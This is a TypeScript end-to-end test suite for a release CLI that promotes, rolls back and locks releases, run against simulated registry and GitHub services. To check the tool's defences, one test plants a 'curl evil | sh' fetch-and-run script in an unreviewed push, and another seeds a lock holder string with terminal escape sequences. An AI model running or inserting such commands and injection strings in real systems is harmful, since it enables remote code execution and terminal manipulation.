// End-to-end: the real release-cli process against the real registry (token auth), the GitHub
// simulator (OpenAPI-validated) and mock Sigstore, as a release engineer would run it.
import { afterEach, describe, expect, it } from 'vitest';
import { skopeoDigest, startFaultProxy, startReleaseWorld, type ReleaseWorld } from '@relkit/testkit';
import { expectExit, expectOutput, expectSignal, jsonOf, runCli } from './harness.js';

let world: ReleaseWorld | undefined;
afterEach(async () => {
  world?.github.assertNoViolations();
  await world?.stop();
  world = undefined;
});

async function latestDigest(w: ReleaseWorld) {
  return skopeoDigest(w.registry, `${w.imageRepository}:latest`);
}

describe('release-cli promote', () => {
  it('promotes a published release: latest → exact X.Y.Z index digest, release published, PR merged', async () => {
    world = await startReleaseWorld();
    const status = await runCli(world, ['status', world.version, '--json']);
    expectExit(status, 0);
    const st = jsonOf(status) as {
      phase: string;
      promotable: boolean;
      gates: { id: string; status: string }[];
    };
    expect(st.phase).toBe('smoke-passed');
    expect(st.gates.filter((g) => g.status !== 'pass')).toEqual([]);
    expect(st.promotable).toBe(true);

    const dry = await runCli(world, ['promote', world.version, '--dry-run']);
    expectExit(dry, 0);
    expectOutput(dry, 'stdout').toContain(`point ${world.image}:latest at ${world.version}`);
    expect(await latestDigest(world)).toBe(world.images.previous.digest);

    const r = await runCli(world, ['promote', world.version, '--yes', '--json']);
    expectOutput(r, 'stderr').toBe('');
    expectExit(r, 0);
    const out = jsonOf(r) as {
      result: { status: string; journal: { id: string; status: string; before?: string; after?: string }[] };
    };
    expect(out.result.status).toBe('succeeded');
    expect(out.result.journal.map((j) => [j.id, j.status])).toEqual([
      [`move-tag ${world.image}:latest`, 'done'],
      [`publish-release ${world.version}`, 'done'],
      [`merge-pr #${world.pullRequest}`, 'done'],
    ]);
    expect(out.result.journal[0]).toMatchObject({
      before: world.images.previous.digest,
      after: world.images.version.digest,
    });
    expect(await latestDigest(world)).toBe(world.images.version.digest);
    expect(world.github.releases(world.repository).find((x) => x.tag === world!.version)?.draft).toBe(false);
    expect(world.github.pull(world.repository, world.pullRequest).merged).toBe(true);

    const again = await runCli(world, ['promote', world.version, '--yes']);
    expectExit(again, 0);
    expectOutput(again, 'stdout').toContain('nothing to do');
    const after = jsonOf<{ phase: string }>(await runCli(world, ['status', world.version, '--json']));
    expect(after.phase).toBe('promoted');
  });

  it.each([
    ['the smoke test has not reported', { smokePassed: false }, 'smoke'],
    ['the PR is not approved and has no checks', { prReady: false }, 'pr-approved'],
  ] as const)('refuses with exit 3 and changes nothing when %s', async (_n, options, gateId) => {
    world = await startReleaseWorld(options);
    const r = await runCli(world, ['promote', world.version, '--yes', '--json']);
    expectExit(r, 3);
    const out = jsonOf(r) as { plan: { gates: { id: string; status: string }[] } };
    expect(out.plan.gates.filter((g) => g.status !== 'pass').map((g) => g.id)).toContain(gateId);
    expect(await latestDigest(world)).toBe(world.images.previous.digest);
    expect(world.github.releases(world.repository).find((x) => x.tag === world!.version)?.draft).toBe(true);
  });

  it('refuses an unsigned X.Y.Z', async () => {
    world = await startReleaseWorld();
    const unsigned = await world.publishImage('9.9.9', { signed: false });
    expect(unsigned.digest).toMatch(/^sha256:/);
    const r = await runCli(world, ['status', '9.9.9', '--json']);
    const st = jsonOf(r) as { gates: { id: string; status: string; reason: string }[] };
    const sig = st.gates.find((g) => g.id === 'image-signature');
    expect(sig?.status).toBe('fail');
    expect(sig?.reason).toMatch(/no signature/);
  });

  it('resumes after a crash right after each write and converges', async () => {
    world = await startReleaseWorld();
    const steps = [`move-tag ${world.image}:latest`, `publish-release ${world.version}`];
    const shortLock = { RELKIT_LOCK_TTL_SECONDS: '6' };
    for (const step of steps) {
      const crashed = await runCli(world, ['promote', world.version, '--yes'], shortLock, {
        crashAfter: step,
      });
      expectSignal(crashed, 'SIGKILL');
      // The lock of a killed run stays until it expires; a re-run meanwhile says who holds it.
      const blocked = await runCli(world, ['promote', world.version, '--yes']);
      expectExit(blocked, 4);
      expectOutput(blocked, 'stderr').toMatch(/holds the lock/);
      await new Promise((r) => setTimeout(r, 6500));
    }
    const resumed = await runCli(world, ['promote', world.version, '--yes', '--json']);
    expectExit(resumed, 0);
    const out = jsonOf(resumed) as { result: { journal: { id: string; status: string }[] } };
    expect(out.result.journal.map((j) => j.status)).toEqual(['skipped', 'skipped', 'done']);
    expect(await latestDigest(world)).toBe(world.images.version.digest);
    expect(world.github.pull(world.repository, world.pullRequest).merged).toBe(true);
  });

  it('lets only one of two concurrent promotes write', async () => {
    world = await startReleaseWorld();
    const [a, b] = await Promise.all([
      runCli(world, ['promote', world.version, '--yes']),
      runCli(world, ['promote', world.version, '--yes']),
    ]);
    const codes = [a.code, b.code].sort();
    // Either the second found the lock (4), or it started after the first finished and found nothing to do (0).
    expect(codes[0]).toBe(0);
    expect([0, 4]).toContain(codes[1]);
    if (codes[1] === 4) expect([a, b].find((x) => x.code === 4)?.stderr).toMatch(/holds the lock: .+ since /);
    expect(world.github.pull(world.repository, world.pullRequest).merged).toBe(true);
  });

  it('a lock held by someone else: promote exits 4 naming them (printable), unlock refuses, unlock --force frees it', async () => {
    world = await startReleaseWorld();
    const w = world;
    // Another machine's live lock, with a hostile holder string (escape sequences, a newline).
    const record = JSON.stringify({
      status: 'held',
      holder: 'mallory\x1b[2J\x1b]0;owned\x07\n(run 9)',
      run: 'r9',
      acquiredAt: '2026-03-27T10:00:00.000Z',
      expiresAt: '2999-01-01T00:00:00.000Z',
    });
    const seed = w.github.commit(w.repository, 'lock-seed', { README: 'x\n' }, `relkit-lock\n\n${record}`);
    w.github.setRef(w.repository, 'refs/relkit-locks/release', seed);

    const blocked = await runCli(w, ['promote', w.version, '--yes']);
    expectExit(blocked, 4);
    expectOutput(blocked, 'stderr').toContain(
      'holds the lock: mallory (run 9) since 2026-03-27T10:00:00.000Z',
    );
    expect(blocked.stderr + blocked.stdout).not.toContain('\x1b');
    expect(blocked.stderr + blocked.stdout).not.toContain('\x07');
    expect(await latestDigest(w)).toBe(w.images.previous.digest);

    const refused = await runCli(w, ['unlock', '--json']);
    expectExit(refused, 4);
    expect(jsonOf(refused)).toMatchObject({
      error: { code: 'LOCK_HELD', details: { holder: 'mallory (run 9)' } },
    });

    const forced = await runCli(w, ['unlock', '--force']);
    expectExit(forced, 0);
    expectOutput(forced, 'stdout').toContain('forced the release lock free; it was held by mallory (run 9)');
    const again = await runCli(w, ['unlock', '--json']);
    expectExit(again, 0);
    expect(jsonOf(again)).toMatchObject({ outcome: 'free', previous: { status: 'released' } });

    expectExit(await runCli(w, ['promote', w.version, '--yes']), 0);
    expect(await latestDigest(w)).toBe(w.images.version.digest);
  });

  it('a crashed run of this identity (long --lock-ttl) is freed by unlock without --force; promote resumes', async () => {
    world = await startReleaseWorld();
    const step = `move-tag ${world.image}:latest`;
    const crashed = await runCli(
      world,
      ['promote', world.version, '--yes', '--lock-ttl', '600'],
      {},
      {
        crashAfter: step,
      },
    );
    expectSignal(crashed, 'SIGKILL');
    expectExit(await runCli(world, ['promote', world.version, '--yes']), 4);
    const freed = await runCli(world, ['unlock', '--json']);
    expectExit(freed, 0);
    expect(jsonOf(freed)).toMatchObject({ outcome: 'released', forced: false, previous: { status: 'held' } });
    const resumed = await runCli(world, ['promote', world.version, '--yes', '--json']);
    expectExit(resumed, 0);
    const out = jsonOf(resumed) as { result: { journal: { status: string }[] } };
    expect(out.result.journal.map((j) => j.status)).toEqual(['skipped', 'done', 'done']);
  });

  it('refuses a --lock-ttl that is not 1 to 86400 seconds (exit 2, before any network)', async () => {
    world = await startReleaseWorld();
    const r = await runCli(world, ['promote', world.version, '--yes', '--lock-ttl', '0']);
    expectExit(r, 2);
    expectOutput(r, 'stderr').toContain('--lock-ttl');
  });

  it('rolls latest back to the previous version and then refuses to abandon the published one', async () => {
    world = await startReleaseWorld();
    expectExit(await runCli(world, ['promote', world.version, '--yes']), 0);
    const rb = await runCli(world, ['rollback', '--to', world.previous, '--yes', '--json']);
    expectExit(rb, 0);
    expect(await latestDigest(world)).toBe(world.images.previous.digest);
    expect(world.github.releases(world.repository).find((x) => x.tag === world!.version)?.draft).toBe(false);
    const ab = await runCli(world, ['abandon', world.version, '--yes']);
    expectExit(ab, 1);
    expectOutput(ab, 'stderr').toMatch(/published/);
  });

  it('abandons an unpromoted release: draft deleted, tag deleted, PR closed', async () => {
    world = await startReleaseWorld();
    const r = await runCli(world, ['abandon', world.version, '--yes']);
    expectExit(r, 0);
    expect(world.github.releases(world.repository).find((x) => x.tag === world!.version)).toBeUndefined();
    expect(world.github.refSha(world.repository, `refs/tags/${world.version}`)).toBeUndefined();
    expect(world.github.pull(world.repository, world.pullRequest).state).toBe('closed');
    expect(await latestDigest(world)).toBe(world.images.previous.digest);
  });

  it('promotes through a registry answering 429s and slowly', async () => {
    world = await startReleaseWorld({ auth: 'none' });
    const proxy = await startFaultProxy(world.registry.url, { latencyMs: 20 });
    try {
      proxy.addRule({
        match: /manifests/,
        times: 3,
        fault: { kind: 'status', status: 429, retryAfter: '0' },
      });
      const { readFileSync, writeFileSync } = await import('node:fs');
      writeFileSync(
        world.configPath,
        readFileSync(world.configPath, 'utf8').replaceAll(world.registry.host, proxy.host),
      );
      const r = await runCli(world, ['promote', world.version, '--yes']);
      expectOutput(r, 'stderr').toBe('');
      expectExit(r, 0);
      expect(proxy.log.filter((l) => l.status === 429)).toHaveLength(3);
      expect(await latestDigest(world)).toBe(world.images.version.digest);
    } finally {
      await proxy.stop();
    }
  });

  it('refuses to merge a commit pushed after the approval with no CI run on it (exit 3, nothing merged)', async () => {
    world = await startReleaseWorld();
    const branch = `release/${world.version}`;
    // The attack: the PR was approved and green at the release commit; a later push lands unreviewed.
    const pushed = world.github.commit(
      world.repository,
      branch,
      { 'evil.sh': 'curl evil | sh\n' },
      'sneak in',
    );
    const status = await runCli(world, ['status', world.version, '--json']);
    const st = jsonOf(status) as {
      promotable: boolean;
      gates: { id: string; status: string; reason: string; evidence: { label: string; value: string }[] }[];
    };
    expect(st.promotable).toBe(false);
    const gate = (id: string) => st.gates.find((g) => g.id === id)!;
    expect(gate('pr-approved')).toMatchObject({
      status: 'fail',
      reason: expect.stringMatching(/older commit/),
    });
    expect(gate('pr-checks').status).not.toBe('pass');
    expect(gate('pr-checks').reason).toContain(pushed.slice(0, 7));
    expect(gate('pr-checks').evidence).toContainEqual({ label: 'head', value: pushed });

    const r = await runCli(world, ['promote', world.version, '--yes']);
    expectExit(r, 3);
    expect(world.github.pull(world.repository, world.pullRequest).merged).toBe(false);
  });

  it('exits 1, not 3, when GitHub refuses the token: a gate that could not look is not "not met"', async () => {
    world = await startReleaseWorld();
    const env = { GITHUB_TOKEN: 'ghp_0000000000000000000000000000000000bad' };
    const status = await runCli(world, ['status', world.version], env);
    expectExit(status, 1);
    expectOutput(status, 'stderr').toMatch(/could not evaluate every gate/);
    expectOutput(status, 'stderr').toMatch(/could not look/);
    const promote = await runCli(world, ['promote', world.version, '--yes'], env);
    expectExit(promote, 1);
    expect(world.github.pull(world.repository, world.pullRequest).merged).toBe(false);
  });

  it('refuses a malformed version with exit 2 before any token or network is needed', async () => {
    world = await startReleaseWorld();
    for (const args of [
      ['status', '1.2'],
      ['promote', '1.2.3.4', '--yes'],
      ['abandon', 'latest', '--yes'],
      ['rollback', '--to', '01.2.3', '--yes'],
    ]) {
      const r = await runCli(world, args, { GITHUB_TOKEN: '', RELKIT_GITHUB_API_URL: 'http://127.0.0.1:9' });
      expectExit(r, 2);
      expectOutput(r, 'stderr').toMatch(/not a release version/);
    }
    const json = await runCli(world, ['status', 'nope', '--json'], { GITHUB_TOKEN: '' });
    expectExit(json, 2);
    expect(JSON.parse(json.stdout)).toEqual({
      error: { code: 'USAGE', message: expect.stringMatching(/not a release version/) },
    });
  });

  it('waits for a check still running on the head, with progress, and then promotes', async () => {
    world = await startReleaseWorld();
    const head = world.github.branchSha(world.repository, `release/${world.version}`)!;
    const run = world.github.addCheckRun(world.repository, head, { name: 'ci / e2e', status: 'in_progress' });
    // --wait 0 refuses at once: a running check is not met yet.
    const impatient = await runCli(world, ['promote', world.version, '--yes', '--wait', '0']);
    expectExit(impatient, 3);
    const w = world;
    // The check completes 1.5 s after the promote first read it running (not after a fixed time
    // from here: the run reads the lock before it observes, and start-up time varies with load).
    const seen = w.github.requests.length;
    let done: ReturnType<typeof setTimeout> | undefined;
    const watch = setInterval(() => {
      const read = w.github.requests
        .slice(seen)
        .some((q) => q.operation === 'GET /repos/{owner}/{repo}/commits/{ref}/check-runs');
      if (!read) return;
      clearInterval(watch);
      done = setTimeout(
        () => w.github.updateCheckRun(w.repository, run, { status: 'completed', conclusion: 'success' }),
        1500,
      );
    }, 20);
    try {
      const r = await runCli(world, ['promote', world.version, '--yes', '--wait', '60']);
      expectExit(r, 0);
      expectOutput(r, 'stderr').toMatch(/waiting \(\d+s of 60s\) for checks green .*running: ci \/ e2e/);
      expect(world.github.pull(world.repository, world.pullRequest).merged).toBe(true);
    } finally {
      clearInterval(watch);
      clearTimeout(done);
    }
  });
});
